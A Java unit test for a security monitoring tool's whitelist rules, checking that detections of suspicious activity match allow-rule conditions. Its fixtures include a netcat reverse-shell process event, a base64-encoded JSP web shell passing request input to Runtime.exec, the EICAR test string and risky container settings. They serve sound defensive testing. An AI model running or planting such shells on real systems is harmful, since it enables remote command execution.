package io.hivesec.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.Report;
import io.hivesec.artifact.Artifact;
import io.hivesec.artifact.ClassArtifact;
import io.hivesec.artifact.ClassOrigin;
import io.hivesec.artifact.ContainerConfig;
import io.hivesec.artifact.Content;
import io.hivesec.artifact.FileArtifact;
import io.hivesec.testkit.Scene;
import io.hivesec.whitelist.ArtifactContents;
import io.hivesec.whitelist.RuleSet;
import io.hivesec.whitelist.Suggestion;
import io.hivesec.whitelist.Whitelists;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What the bundled plugins find says, under the names that the whitelist reads, what a rule of its type asks for. */
final class TrustedFindingsTest {
    private static final Instant NOW = Instant.parse("2026-01-02T03:04:05Z");
    private static final byte[] PAGE = Base64.getDecoder()
            .decode("PCUgUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhyZXF1ZXN0LmdldFBhcmFtZXRlcigicSIpKTsgJT4=");
    private static final byte[] EICAR = Base64.getDecoder()
            .decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=");

    static Stream<Arguments> conditions() {
        return Stream.of(
                of(
                        "processes",
                        "nc",
                        events(scene -> scene.starts("/usr/bin/nc", "nc", "203.0.113.9", "44", "-e", "sh"))),
                of(
                        "targetPorts",
                        "44",
                        events(scene -> scene.starts("/usr/bin/nc", "nc", "203.0.113.9", "44", "-e", "sh"))),
                of("fileNames", "a\\\\.jsp", file("/srv/a.jsp", PAGE)),
                of("directories", "/srv", file("/srv/a.jsp", PAGE)),
                of("md5", "44d88612fea8a8f36de82e1278abb02f", file("/tmp/e", EICAR)),
                of("riskKinds", "sensitive_directory", config("'Binds': ['/etc:/x']")),
                of("sensitiveDirectories", "/etc", config("'Binds': ['/etc:/x']")),
                of("riskKinds", "sensitive_capability", config("'CapAdd': ['SYS_MODULE']")),
                of("containers", "web", config("'Privileged': true")),
                of("classNames", "org.example.LogFilter", hive -> hive.scan(shell(ClassOrigin.UNKNOWN))),
                of(
                        "classNames",
                        "org.example.LogFilter",
                        hive -> hive.scan(FileArtifact.of("x/F.class", bytesOfShell()))),
                of("codeSources", "/opt/*.jar", hive -> hive.scan(shell(origin("file:/opt/a.jar")))));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("conditions")
    void match_ruleOfTheTypesCondition_trustsTheAlertAndTheNearMissNot(
            String field, String value, Function<Hive, Report> incident) throws Exception {
        try (Hive hive = Hive.builder()
                .plugins(TrustedFindingsTest.class.getClassLoader())
                .build()) {
            List<Alert> alerts = incident.apply(hive).alerts();
            assertThat(alerts).isNotEmpty();
            for (Alert alert : alerts) {
                assertThat(rule(alert.type(), field, value).match(alert))
                        .as("%s", Whitelists.explain(rule(alert.type(), field, value), alert))
                        .isPresent();
                assertThat(rule(alert.type(), field, nearMiss(field)).match(alert))
                        .isEmpty();
                for (Suggestion suggestion : Whitelists.suggest(alert)) {
                    RuleSet suggested = read(Whitelists.toJson(List.of(suggestion.toRule("s", "ann", NOW))));
                    assertThat(suggested.match(alert)).as("%s", suggestion).isPresent();
                }
                assertThat(Whitelists.suggest(alert)).isNotEmpty();
            }
        }
    }

    private static String nearMiss(String field) {
        return switch (field) {
            case "targetPorts" -> "45";
            case "md5" -> "44d88612fea8a8f36de82e1278abb02e";
            case "riskKinds" -> "device";
            default -> "/other/thing";
        };
    }

    private static RuleSet rule(AlertType type, String field, String value) throws Exception {
        return read("{\"version\":1,\"rules\":[{\"id\":\"r\",\"type\":\"" + type.id()
                + "\",\"creator\":\"ann\",\"created\":\"2026-01-01T00:00:00Z\",\"conditions\":{\"" + field + "\":\""
                + value
                + "\"}}]}");
    }

    private static RuleSet read(String json) throws Exception {
        return RuleSet.read(
                "trusted.json",
                Path.of("."),
                new ByteArrayInputStream(json.getBytes(StandardCharsets.UTF_8)),
                ArtifactContents.NONE);
    }

    private static Arguments of(String field, String value, Function<Hive, Report> incident) {
        return Arguments.of(field, value, incident);
    }

    private static Function<Hive, Report> events(Consumer<Scene> story) {
        return hive -> {
            Scene scene = Scene.in("web");
            story.accept(scene);
            Report last = Report.EMPTY;
            for (var event : scene.events()) {
                last = hive.inspect(event);
            }
            return last;
        };
    }

    private static Function<Hive, Report> file(String name, byte[] bytes) {
        return hive -> hive.scan(FileArtifact.of(name, bytes));
    }

    private static Function<Hive, Report> config(String hostConfig) {
        String json = ("[{'Id': 'c1', 'Name': '/web', 'HostConfig': {" + hostConfig
                        + "}, 'Mounts': [], 'Config': {'Image': 'web:1', 'User': '1000'}}]")
                .replace('\'', '"');
        return hive -> hive.scan(ContainerConfig.of("web.json", Content.of(json.getBytes(StandardCharsets.UTF_8))));
    }

    private static Artifact shell(ClassOrigin origin) {
        return ClassArtifact.of("org.example.LogFilter", bytesOfShell(), origin);
    }

    private static ClassOrigin origin(String codeSource) {
        return new ClassOrigin(List.of("app"), codeSource, List.of(), List.of(), "");
    }

    /** The demo's inert filter, whose request's parameter reaches {@code Runtime.exec}; never loaded. */
    private static byte[] bytesOfShell() {
        return DemoSamples.commandFilter();
    }
}
